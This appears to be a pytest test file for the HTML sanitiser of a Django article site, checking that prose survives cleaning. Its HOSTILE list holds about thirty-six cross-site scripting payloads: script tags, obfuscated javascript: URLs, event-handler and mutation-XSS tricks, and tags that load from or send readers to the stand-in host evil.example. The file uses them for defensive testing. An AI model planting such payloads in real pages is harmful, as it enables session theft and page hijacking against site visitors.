"""The sanitiser: nothing that runs, styles, frames or tracks gets past it; prose does."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iecguide.articles.models import Article, Topic
from iecguide.articles.prose import ATTRIBUTES, TAGS, clean, links, minutes, plain
from iecguide.articles.reading.rendering import Heading, structure
from tests.articles.reading import Page

HOSTILE = [
    ("<script>alert(1)</script>", ""),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
    ("<p onclick=alert(1)>x</p>", "<p>x</p>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java&#10;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" &#1;javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html,<script>1</script>">x</a>', "<a>x</a>"),
    ('<a href="vbscript:x">x</a>', "<a>x</a>"),
    ('<a href="/quiz/" target="_blank" ping="//evil.example">x</a>', '<a href="/quiz/">x</a>'),
    ('<a href="/quiz/" style="position:fixed">x</a>', '<a href="/quiz/">x</a>'),
    ("<img src=x onerror=alert(1)>", ""),
    ('<img src="https://evil.example/pixel.gif" width=1>', ""),
    ("<svg onload=alert(1)><circle/></svg>", ""),
    ("<svg><script>alert(1)</script></svg>", ""),
    ("<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", ""),
    ("<iframe src=//evil.example></iframe>", ""),
    ("<object data=x></object><embed src=x>", ""),
    ("<style>*{display:none}</style>", ""),
    ("<link rel=stylesheet href=//evil.example/x.css>", ""),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>", ""),
    ("<base href=//evil.example>", ""),
    ("<form action=//evil.example><input name=p><button>x</button></form>", "x"),
    ("<p style='background:url(//evil.example)'>x</p>", "<p>x</p>"),
    ("<p id=main class=hero>x</p>", "<p>x</p>"),
    ('<h2 id="a" onmouseover="x">x</h2>', "<h2>x</h2>"),
    ("<video><source onerror=alert(1)></video>", ""),
    ("<template><script>alert(1)</script></template>", ""),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", None),
    ("<details open ontoggle=alert(1)>x</details>", "x"),
    ("<p>a<!-- b --><![CDATA[c]]></p>", None),
    ("<p hx-get=//evil.example hx-trigger=load>x</p>", "<p>x</p>"),
    ('<p data-js="copy" data-link="x">x</p>', "<p>x</p>"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", None),
    ("&lt;script&gt;x&lt;/script&gt;", "&lt;script&gt;x&lt;/script&gt;"),
    ("<td colspan=2 width=9>x</td>", None),
]
PROSE = [
    "<h2>One</h2>\n<p>Text with <strong>weight</strong> and <em>stress</em>.</p>",
    "<ul><li>a</li></ul>\n<ol><li>b</li></ol>",
    '<p class="table-title">x</p>\n<table><tbody><tr><th>a</th></tr>'
    '<tr><td colspan="2">b</td></tr></tbody></table>',
    '<p><a href="https://www.canada.ca/en.html">x</a> <a href="/quiz/">y</a> '
    '<a href="#one">z</a></p>',
    '<p><a href="mailto:a@b.example">x</a></p>',
    '<p class="callout">Mind this.</p>',
    "<blockquote><p>“Quoted” – d’accord &amp; so on</p></blockquote>",
    "",
]
# What files and pasted pages have, and the form it is kept in.
RESHAPED = [
    (
        '<table><caption>x</caption><thead><tr><th scope="col">a</th></tr></thead>'
        "<tbody><tr><td>b</td></tr></tbody></table>",
        '<p class="table-title">x</p>\n<table><tbody><tr><th>a</th></tr>'
        "<tr><td>b</td></tr></tbody></table>",
    ),
    ('<h2 id="one">One</h2>', "<h2>One</h2>"),
    ("<ul><li><p>a</p></li></ul>", "<ul><li>a</li></ul>"),
    ("<ul><li><p>a</p><p>b</p></li></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"),
    ('<p class="hero callout">x</p>', '<p class="callout">x</p>'),
]


def strange(html):
    """Tags, attributes and schemes that may not be there."""
    found = Page(html)
    for tag, attrs in found.tags:
        allowed = ATTRIBUTES.get(tag, set()) | ({"class"} if tag == "p" else set())
        if tag not in TAGS or set(attrs) - allowed:
            yield tag, attrs
        href = attrs.get("href", "").strip().lower()
        if ":" in href.split("/")[0] and href.split(":")[0] not in ("http", "https", "mailto"):
            yield tag, attrs


@pytest.mark.parametrize(("html", "left"), HOSTILE)
def test_hostile(html, left):
    found = clean(html)
    assert list(strange(found)) == []
    assert left is None or found == left


def test_enough_fragments():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("html", PROSE)
def test_prose_stays(html):
    assert clean(html) == html


@pytest.mark.parametrize(("html", "kept"), RESHAPED)
def test_one_form(html, kept):
    assert clean(html) == kept
    assert clean(kept) == kept


fragments = st.lists(
    st.one_of(
        st.sampled_from([html for html, _left in HOSTILE] + PROSE),
        st.text(alphabet="<>/\"'= &;ahrefscipt:\0\n", max_size=20),
    ),
    max_size=6,
).map("".join)


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(html=fragments)
def test_any_mixture(html):
    """Harmless, and clean once is clean for good."""
    found = clean(html)
    assert list(strange(found)) == []
    assert clean(found) == found


@pytest.mark.django_db
def test_saving_cleans():
    """Whoever saves, and however."""
    topic = Topic.objects.first()
    article = Article.objects.create(
        title="x", slug="x", topic=topic, body="<p onclick=x>a</p><script>b</script>"
    )
    assert article.body == "<p>a</p>"
    article.body = "<img src=x onerror=y>"
    article.save()
    article.refresh_from_db()
    assert article.body == ""


@pytest.mark.parametrize("html", [html for html, _left in HOSTILE] + PROSE)
def test_a_page_adds_only_its_own(html):
    """Ids, scopes, captions and boxes for tables; every word as it was cleaned."""
    shown = structure(clean(html)).html
    added = {"div": {"class", "role", "tabindex"}, "table": {"class"}, "th": {"scope"}}
    added |= {"h2": {"id"}, "caption": set(), "thead": set()}
    for tag, attrs in Page(shown).tags:
        allowed = ATTRIBUTES.get(tag, set()) | added.get(tag, set())
        assert tag in TAGS | set(added)
        assert set(attrs) - allowed - ({"class"} if tag == "p" else set()) == set()
    assert plain(shown).replace(" ", "") == plain(clean(html)).replace(" ", "")


def test_headings():
    html = "<h2>One &amp; <em>two</em></h2><p>x</p><h3>no</h3><h2>One two</h2><h2>Sources</h2>"
    made = structure(html)
    assert made.headings == (
        Heading("one-two", "One & two"),
        Heading("one-two-2", "One two"),
        Heading("sources-2", "Sources"),
    )
    assert Page(made.html).ids() == ["one-two", "one-two-2", "sources-2"]


def test_a_table_as_readers_get_it():
    kept = clean(RESHAPED[0][0].replace("<td>b</td>", "<th>b</th><td>c</td>"))
    assert structure(kept).html.strip() == (
        '<div class="scroll" role="group" tabindex="0"><table class="facts-table">'
        '<caption>x</caption><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><th scope="row">b</th><td>c</td></tr></tbody></table></div>'
    )


@pytest.mark.parametrize(("words", "time"), [(0, 1), (90, 1), (310, 2), (1000, 5)])
def test_minutes(words, time):
    assert minutes("<p>" + "word " * words + "</p>") == time


def test_links():
    assert links('<a href="/a/">x</a><p><a href="#b">y</a><a>z</a></p>') == ["/a/", "#b"]
